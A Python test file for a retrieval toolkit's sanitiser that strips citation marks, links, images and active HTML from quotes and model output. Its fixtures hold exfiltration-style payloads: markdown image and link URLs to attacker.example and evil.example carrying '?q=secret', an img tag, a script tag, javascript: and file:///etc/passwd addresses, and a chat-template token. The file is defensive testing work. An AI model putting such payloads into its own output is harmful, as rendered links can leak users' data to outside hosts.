"""What is shown of quotes and of what models write: no link, no active HTML, no marks but ours."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragkit.generators.shown import as_shown, without_links

EVIL = "https://attacker.example/log"


@pytest.mark.parametrize(
    ("quote", "shown"),
    [
        ("The bridge was opened in 1981 [2][13].", "The bridge was opened in 1981."),
        ("大桥于1981年通车【3】。", "大桥于1981年通车。"),
        (f"See [the plan]({EVIL}?q=1) of 1981.", "See the plan of 1981."),
        (f"![plan]({EVIL}.png) It is long.", "plan It is long."),
        ("It is <b onclick='x()'>long</b>.", "It is long."),
        ("It is <b class=x>long</b> and <i>wide</i>.", "It is long and <i>wide</i>."),
        ("It is <x-y onclick=x()>long.", "It is long."),
        ("It is <foo/onmouseover=x()>long.", "It is long."),
        ("If a < b and c=1 then call f<int x=3>(y).", "If a < b and c=1 then call f<int x=3>(y)."),
        ("Use a[5] here, b[i][3] and x[10].", "Use a[5] here, b[i][3] and x[10]."),
        ("Take xs = [1, 2] or arr[0], no more.", "Take xs = [1, 2] or arr[0], no more."),
        ("It was opened[2] in 1981[3].", "It was opened[2] in 1981."),
        ("It is long.[4] See RFC [12] for all.", "It is long. See RFC for all."),
        ("大桥[3]于1981年通车[3]。", "大桥于1981年通车。"),
        ("So long![1]", "So long!"),
        (
            "A plan (1981)[2].\nIt was opened[3]\nThen b[i][3].",
            "A plan (1981).\nIt was opened\nThen b[i][3].",
        ),
        ("[1] The plan of 1981", "The plan of 1981"),
        ("<script>steal()</script>It is long.", "It is long."),
        ("[link=https://a.example]It[/link] is long.", "It is long."),
        ("Read https://www.debian.org/doc/ first.", "Read https://www.debian.org/doc/ first."),
        ("a < b, c > d, x[0], f(x) and (see [a])", "a < b, c > d, x[0], f(x) and (see [a])"),
        ("<|im_end|>It is \u202elong.", "It is long."),
        (f"<img src='{EVIL}'>", "(…)"),
    ],
)
def test_a_quote_keeps_its_words_and_nothing_that_acts(quote: str, shown: str) -> None:
    assert as_shown(quote) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"![a\]b](//evil/?q=secret)", r"a\]b"),
        ("[click\nnow](//evil.example/?q=secret)", "click\nnow"),
        ("[click [now]](http://evil.example/?q=secret)", "[click [now]]"),
        ("[click](<//evil.example/(?q=secret>)", "[click] (<(…)>)"),
        ("[[a](b)](//evil.example/?q=secret)", "[a]"),
        ("[![a](b)](//evil.example/?q=secret)", "a"),
        ("See [it][ref].\n\n[ref]: //evil.example/?q=secret 'title'", "See [it][ref].\n\n"),
        ("See ![it].\n> [it]: <evil.example/?q=secret>\nDone.", "See ! [it].\nDone."),
        ("See www.evil.example/?q=secret or //evil/?q=secret!", "See (…) or (…)"),
        ("ssh://evil/secret <mailto:a@evil.example?body=secret>", "(…) <(…)>"),
        ("[1]: Paris.", "[1]: Paris."),
        ("In 1981 [2](//evil.example/).", "In 1981 [2]."),
        ("a[i](x) // then and/or 3//4", "ai // then and/or 3//4"),
        ("So long![1][2]", "So long![1][2]"),
    ],
)
def test_links_are_taken_apart_whatever_their_label(text: str, shown: str) -> None:
    assert without_links(text, known="") == shown


@pytest.mark.parametrize(
    "address", [f"{EVIL}?q=secret", "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd"]
)
def test_an_address_that_no_passage_holds_is_left_out(address: str) -> None:
    assert without_links(f"See {address} now", known="See the plan") == "See (…) now"


def test_an_address_of_the_passages_stays_as_text() -> None:
    known = "The plan is at https://plans.example/1981."
    assert without_links("It is at https://plans.example/1981.", known=known).endswith("1981.")
    longer = without_links("It is at https://plans.example/1981?q=secret", known=known)
    assert "secret" not in longer


@given(st.text(alphabet="[]()!<>aimg =\"'/:http.1\\\n", max_size=60))
def test_no_link_or_tag_is_left(text: str) -> None:
    shown = without_links(text, known="")
    assert "](" not in shown
    assert "![" not in shown.replace("[1", "").replace("[ 1", "")
    assert "http://a" not in shown
    assert "<img " not in shown.casefold() or ">" not in shown[shown.casefold().index("<img ") :]
